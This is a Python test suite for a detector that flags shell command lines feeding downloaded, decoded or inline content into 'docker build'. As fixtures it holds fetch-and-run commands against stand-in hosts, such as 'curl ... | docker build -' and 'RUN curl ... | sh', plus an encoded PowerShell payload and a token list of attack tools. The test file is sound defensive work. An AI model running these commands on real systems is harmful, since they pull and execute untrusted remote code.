"""Run the vectors of what builds are fed, and hold the reader to its promises."""

from __future__ import annotations

import gc
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from t1612core.container.feeds import builds_in
from t1612core.facts.event import Line
from t1612core.facts.standard_input import MOST_TEXTS, standard_input
from t1612core.knowledge.commands import FEEDS
from t1612core.knowledge.signals.standard_input import SIGNALS
from t1612core.model import Fact
from t1612core.shell.flow import MOST
from t1612core.shell.grammar import packed
from t1612core.shell.invocations import Unread
from t1612core.shell.limits import LIMIT
from t1612core.shell.reader import read
from t1612core.shell.source import Source
from t1612core.shell.unwrap import DEEPEST
from t1612core.text.escapes import LIMIT as PRINTED
from t1612core.text.escapes import echoed, printed

from ..conftest import examples
from .test_growth import LARGEST, SIZE, seconds
from .test_growth import LIMIT as RATIO
from .test_vectors import load

URL = "http://198.51.100.7/D"
VECTORS = load("standard_input")
PIECES = packed(
    """sh bash cmd.exe powershell pwsh -c /c -Command sudo curl wget nc -s docker podman build
    load import - . -f -f- <( ) ( { } | || && & ; < << <<- <<< EOF <<EOF > >( $( ` ' " \\ $'
    http://198.51.100.7/D https://raw.githubusercontent.com/a 10.0.0.1 echo printf %s %b cat tee
    base64 -d xxd -r rev gunzip tr openssl python3 b64decode urlopen iwr FromBase64String
    /tmp/x cd type Get-Content -Path -C tar
    .DownloadString( FROM RUN alpine \\n \\x46 @' @" U= $U ^ # /c"""
)
TEXT = st.text(max_size=30) | st.text(st.characters(codec=None, categories=["Cs", "Cc"]))
LINES = TEXT | st.lists(
    st.sampled_from([*sorted(PIECES), "\n", "\r\n", "\t", "\0"]) | TEXT, max_size=24
).map(" ".join)
SHELLS = st.sampled_from(
    ["", "sh -c ", "sh -c '", "bash -c ", "cmd /c ", "powershell -c ", "pwsh "]
)
ENDS = st.sampled_from(["", "'", " | docker build -", " | docker build -'"])


def facts(line: str, *, program: str = "", limit: int = LIMIT) -> list[Fact]:
    return list(standard_input(Line(line, program, limit=limit), "command_line"))


@pytest.mark.parametrize("vector", VECTORS)
def test_what_a_build_is_fed(vector: dict[str, Any]) -> None:
    """Each signal once, with what is shown of it."""
    found = facts(vector["input"], program=vector.get("program", ""))

    assert vector["expected"] == {fact.signal: fact.text for fact in found}
    assert len(vector["expected"]) == len(found)


@pytest.mark.parametrize("vector", VECTORS)
def test_places_are_in_the_line(vector: dict[str, Any]) -> None:
    """A URL and a decoder stand at their span, but for what was unquoted twice or put in."""
    line = vector["input"]
    is_exact = "$U" not in line and "\\" not in line
    for fact in facts(line, program=vector.get("program", "")):
        start, end = fact.span or (-1, -1)
        stands = line[start:end]

        assert 0 <= start < end <= len(line)
        if is_exact and "redact" not in fact.text and "inline" not in fact.signal:
            assert "".join(filter(str.isalnum, fact.text)) == "".join(filter(str.isalnum, stands))


def test_every_signal_fires_and_nearly_fires() -> None:
    """The tag's signal is its own reader's."""
    ids = {signal.id for signal in SIGNALS} - {"process.official_image_tag"}
    places = {
        f"process.{name}"
        for name in (
            *("temp_source", "memory_source", "hidden_source", "archive_in_temp"),
            *("stray_source", "definition_in_temp"),
            *("remote_source", "public_source", "vendor_source", "internal_source"),
            *("bare_address_source", "plain_http_source"),
        )
    }
    expected = [param.values[0]["expected"] for param in VECTORS]

    assert ids | places == {id for each in expected for id in each}
    assert {} in expected


def test_the_field_is_the_one_given() -> None:
    (fact,) = standard_input(Line(f"sh -c curl {URL} | docker build -", ""), "parent_line")

    assert Fact("process.piped_download", "parent_line", URL, (11, 11 + len(URL))) == fact


def test_powershell_that_hides_its_text_is_read() -> None:
    """The span is the word that was decoded."""
    import base64

    script = f"iwr {URL} | docker build -"
    word = base64.b64encode(script.encode("utf-16-le")).decode()
    line = f"powershell -enc {word}"
    (fact,) = facts(line)

    assert (URL, (16, len(line))) == (fact.text, fact.span)


def test_texts_are_followed_to_a_depth() -> None:
    """Beyond it a text hands on what it is given, and starts nothing."""

    def nested(depth: int) -> str:
        script = f"curl {URL} | docker build -"
        for _ in range(depth):
            escaped = script.replace("\\", "\\\\").replace("'", "\\'")
            script = f"sh -c $'{escaped}'"
        return f"sh\0-c\0{script}"

    assert 1 == len(facts(nested(DEEPEST - 1)))
    assert [] == facts(nested(DEEPEST))


def test_cmd_groups_are_followed_to_a_depth() -> None:
    line = "cmd /c " + "(" * 99 + "echo FROM alpine" + ")" * 99 + " | docker build -"

    assert ["process.inline_dockerfile"] == [fact.signal for fact in facts(line)]


def test_a_line_is_read_up_to_its_limit() -> None:
    line = f"sh -c ': {'x' * LIMIT}; curl {URL} | docker build -'"

    assert [] == facts(line)
    assert 1 == len(facts(line, limit=2 * LIMIT))


def test_so_many_things_are_kept_and_no_more() -> None:
    """A bound on what one flow holds; code is read no further than that either."""
    urls = " ".join([URL] * (MOST + 9))
    lines = (
        f"curl {urls} | docker build -",
        f"(curl {URL};" * (MOST + 9) + ") | docker build -",
        f"python3 -c 'urlopen({urls})' | docker build -",
        "echo a" + " | base64 -d" * (MOST + 9) + " | docker build -",
        "cat" + " /tmp/x" * (MOST + 9) + " | docker build -",
        "base64 -d" + " --input=/tmp/x" * (MOST + 9) + " a | docker build -",
        "cat /tmp/x | tar -c a" + " -f /tmp/x" * (MOST + 9) + " | docker build -",
    )
    for line in lines:
        for fed in builds_in(Unread("sh", Source(line)), FEEDS).fed:
            flow = fed.flow
            assert MOST >= max(len(flow.downloads), len(flow.decoders), len(flow.files))


def test_programs_read_so_much_of_what_they_are_given_and_no_more() -> None:
    edit = "a\nRUN curl http://203.0.113.9/q | sh\n.\n"
    line = "bash -c 'ed D <<q\n{}q\ndocker build -f D .'"

    assert facts(line.replace("{}", edit), limit=LARGEST)
    assert not facts(line.replace("{}", edit + "w\n" * 40_000), limit=LARGEST)


def test_so_many_texts_are_scored_and_no_more() -> None:
    """What is a finding only beyond the bound is not told."""
    plain = "".join(f"echo FROM a{number} | docker build -;" for number in range(MOST_TEXTS))
    loud = f"printf 'FROM a\\nRUN curl {URL} | sh\\n' | docker build -;"
    signals = [
        [fact.signal for fact in facts(f'sh -c "{text}"')] for text in (loud + plain, plain + loud)
    ]

    both = ["process.inline_dockerfile", "process.inline_instructions"]
    assert [both, both[:1]] == signals


def test_a_script_that_is_written_to_feeds_nothing() -> None:
    line = f"sh -c 'curl {URL} | tee >(wget http://203.0.113.9/x) | docker build -'"

    assert [URL] == [fact.text for fact in facts(line) if "download" in fact.signal]


def test_a_variable_carries_one_script() -> None:
    """Not one for each of its mentions."""
    script = (
        "X=$(curl http://198.51.100.7/D); echo $X $X | docker build - ; echo $X | docker build -"
    )
    _, first, second = read("sh", Source(script)).pipelines
    _, once, twice = first.commands[0].words
    again = second.commands[0].words[1]

    assert once.substitutions[0].script is twice.substitutions[0].script
    assert once.substitutions[0].script is again.substitutions[0].script


def test_print_ends_somewhere() -> None:
    """A format is used again for each argument."""
    assert PRINTED == len(printed(["x" * 4096 + "%s", *["y"] * 4096]))
    assert "ay-\nb-\n" == printed(["%sy-\\n", "a", "b"]).replace("by", "b")
    assert "a" == echoed(["-n", "a"])
    assert "" == echoed([])


@given(SHELLS, LINES, ENDS, st.sampled_from(["", "sh", "docker", "cmd.exe", "x"]))
@settings(max_examples=examples(400))
def test_any_line_gives_facts_inside_it(shell: str, text: str, end: str, program: str) -> None:
    """Never an error; each signal once; evidence can always be cut out of the line."""
    line = shell + text + end
    found = facts(line, program=program)

    assert len({fact.signal for fact in found}) == len(found)
    for fact in found:
        start, stop = fact.span or (-1, -1)
        assert fact.text
        assert 0 <= start < stop <= len(line)


SH = "sh -c {} | docker build -"
GROWING = {
    "pipes": (SH, "cat|"),
    "downloads": (SH, f"curl {URL}|"),
    "decoders": (SH, "echo a|base64 -d|"),
    "builds": ("sh -c curl {}", "|docker build -"),
    "fed-builds": ("sh -c echo FROM x | ({})", "docker build -;"),
    "texts": ("sh -c {}", "echo FROM x|docker build -;"),
    "growing-texts": ("bash -c {} docker build -", "cat - <(echo FROM a)|tee x|"),
    "documents": ("bash -c {}", "docker build - <<a\nFROM x\na\n"),
    "open-documents": ("bash -c {}", "docker build - <<a\n"),
    "indented-documents": ("bash -c docker build - <<-a\n{}", "\tFROM x\n"),
    "here-strings": ("bash -c {}", "docker build - <<< FROM;"),
    "files-read": ("sh -c cat {} | docker build -", "/tmp/x "),
    "files-of-each": (SH, "cat /tmp/x|"),
    "files-opened": ("sh -c tar {} | docker build -", "-f /tmp/x "),
    "files-redirected": ("sh -c {}", "docker load</tmp/x;"),
    "files-fed": ("sh -c cat /tmp/a /tmp/b /tmp/c | ({})", "docker build -;"),
    "directories": ("sh -c {}", "cd /a;cat D|docker build -;"),
    "directories-entered": ("sh -c {} cat D | docker build -", "cd a;"),
    "cmd-redirections": ("cmd /c {}", "docker load<a&"),
    "cmd-open-redirections": ("cmd /c docker load {}", '<" '),
    "ps-parameters": ("pwsh -c Get-Content {} | docker build -", "-Path:x "),
    "redirections": ("bash -c docker build - {}", "<a "),
    "single-quotes": (SH, "'a' "),
    "double-quotes": (SH, '"a" '),
    "open-quotes": (SH, "'"),
    "backslashes": (SH, "\\"),
    "printf-arguments": ("sh -c printf %s {} | docker build -", "a "),
    "printf-conversions": ("sh -c printf {} | docker build -", "%s"),
    "echo-escapes": ("sh -c echo '{}' | docker build -", "\\n"),
    "from": ("sh -c echo '{}' | docker build -", "\\nFROM "),
    "groups": (SH, "("),
    "closed-groups": (SH, "(a)|"),
    "substitutions": (SH, "$(curl a) "),
    "open-substitutions": (SH, "<("),
    "edits-appended": ("bash -c sed -i '{}' D; docker build .", "$ a RUN\n"),
    "edits-of-one-line": ("bash -c sed -i '{}' D; docker build .", "a RUN;"),
    "edits-replaced": ("bash -c sed -i '{}' D; docker build .", "s/a/b/;"),
    "edits-open": ("bash -c sed -i '{}' D; docker build .", "s/s,s#"),
    "edits-of-ed": ("bash -c ed D <<q\n{}\nq\ndocker build .", "a\nRUN\n.\n"),
    "edits-of-ed-open": ("bash -c ed D <<q\na\n{}\nq\ndocker build .", "RUN\n"),
    "edits-addressed": ("bash -c sed -i '{}' D; docker build .", "/a"),
    "edits-many": ("bash -c {} docker build .", "sed -i 'a RUN' D;"),
    "sessions": ("bash -c ftp h.example <<q\n{}\nq\ndocker build .", "get a b\n"),
    "sessions-entered": ("bash -c ftp h.example <<q\n{}\nq\ndocker build .", "lcd a\n"),
    "sessions-many-words": ("bash -c ftp h.example <<q\nmget {}\nq\ndocker build .", "a "),
    "sessions-opened": ("bash -c ftp h.example <<q\n{}\nq\ndocker build .", "open h "),
    "edits-handed-on": ("bash -c echo '{}' | ed a; docker build .", "a|ed b"),
    "code-literals": ("bash -c python3 -c '{}'; docker build .", 'open("abc","w") '),
    "code-texts": ("bash -c python3 -c '{}' > D; docker build .", 'print("a b") '),
    "code-open-literals": ("bash -c python3 -c 'write {}'; docker build .", '"\\"'),
    "code-marks": ("bash -c python3 <<q\nwrite {}\nq\ndocker build .", "'`"),
    "code-given": ("bash -c python3 <<q\n{}\nq\ndocker build .", "open('abc','w')\n"),
    "code-handed-on": ("bash -c echo 'write {}' | python3; docker build .", "a|python3 "),
    "code-arrows": ("bash -c awk '{}'; docker build .", ">   "),
    "ps-lists": ("pwsh -c {} | Set-Content Dockerfile; docker build .", "'a',"),
    "ps-list-values": ("pwsh -c Set-Content D {}; docker build .", "'a',"),
    "ps-calls": ("pwsh -c [IO.File]::WriteAllText({}); docker build .", "'abc',"),
    "cmd-files-before": ("cmd /c {} (echo a) & docker build .", ">a "),
    "cmd-dots": ("cmd /c {}docker build .", "echo.a&"),
    "here": ("bash -c docker build {}", "$PWD/"),
    "files": ("bash -c docker build {}", "-f <(curl a.b/c) "),
    "carried": ("bash -c X=$(curl a.b/c;a;a;a;a);{}", "echo $X|docker build -;"),
    "code": ("sh -c python3 -c '{}' | docker build -", "urlopen http://a.b/c "),
    "code-urls": ("sh -c python3 -c 'urlopen {}' | docker build -", "http://"),
    "hex-code": ("sh -c node -e '{}' | docker build -", 'Buffer.from("a",'),
    "dots": ("sh -c http {} | docker build -", "a."),
    "cmd-pipes": ("cmd /c {}", "a | "),
    "cmd-groups": ("cmd /c {}", "(a|"),
    "cmd-echoes": ("cmd /c ({}) | docker build -", "echo a & "),
    "ps-pipes": ("powershell -c {}", "a | "),
    "ps-parentheses": ("powershell -c {} | docker build -", "(a)"),
    "ps-texts": ("powershell -c {} | docker build -", "'a' + "),
    "ps-here-strings": ("pwsh -c {}", "@'\na\n'@ "),
    "ps-open-here-strings": ("pwsh -c {}", "@'\n"),
    "ps-open-double-here-strings": ("pwsh -c {}", 'a@"\n'),
    "ps-urls": ("pwsh -c .DownloadString {} | docker build -", "http://a "),
    "files-written": ("sh -c {}", "echo RUN a>>Dockerfile;docker build .;"),
    "files-fetched": ("sh -c {}", "curl -O http://a.b/D;docker build .;"),
    "files-copied": ("sh -c {}", "cp a b;cp b a;"),
    "files-in-one-copy": ("sh -c cp {} d; docker build d", "a "),
    "files-doubled": ("sh -c echo a>D;{} docker build -f D .", "cat D D>E;mv E D;"),
    "repositories": ("sh -c {}", "git clone a.b/a;cd a;docker build .;"),
    "containers": ("sh -c {}", "docker exec c a;docker commit c;"),
    "cmdlets": ("pwsh -c {}", "Set-Content -Path Dockerfile -Value a;docker build .;"),
    "cmd-writes": ("cmd /c {}", "(echo RUN a)>>Dockerfile&docker build .&"),
    "cmd-arrows": ("cmd /c (echo a) {}", ">f"),
    "ps-writes": ("pwsh -c {}", "('RUN a')>>Dockerfile;docker build .;"),
    "ps-arrows": ("pwsh -c ('a') {}", ">f"),
    "texts-in-texts": ("sh -c {}", 'sh -c "echo a>f";docker build .;'),
    "deeper-and-deeper": ("sh -c {}", "cd a;echo a>f;docker build .;"),
    "made-directories": ("sh -c {}", "T=$(mktemp -d);cd $T;tar xf a;docker build .;"),
    "operators-only": ("a {}", "|"),
    "names": ("{}", "powershell"),
}


@pytest.fixture
def _without_garbage_collection() -> Iterator[None]:
    gc.collect()
    gc.disable()
    yield
    gc.enable()


def growth(name: str, size: int, repeat: int = 3) -> float:
    pattern, unit = GROWING[name]
    times = []
    for length in (size // 2, size):
        line = pattern.replace("{}", unit * (length // len(unit)))
        times.append(seconds(lambda line=line: facts(line, limit=2 * LARGEST), repeat))  # type: ignore[misc]  # a default binds the loop variable
    return times[1] / max(times[0], 0.0005)


@pytest.mark.growth
@pytest.mark.usefixtures("_without_garbage_collection")
@pytest.mark.parametrize("name", GROWING)
def test_time_grows_with_the_line(name: str) -> None:
    """A busy machine may spoil one try, not all."""
    assert any(growth(name, size) <= RATIO for size in (SIZE, SIZE, 2 * SIZE, SIZE, 2 * SIZE))


@pytest.mark.growth
@pytest.mark.usefixtures("_without_garbage_collection")
@pytest.mark.parametrize(
    "name", ["pipes", "texts", "documents", "files-read", "single-quotes", "ps-pipes"]
)
def test_time_grows_with_the_line_up_to_a_mebibyte(name: str) -> None:
    assert any(growth(name, LARGEST, repeat=1) <= RATIO for _ in range(4))
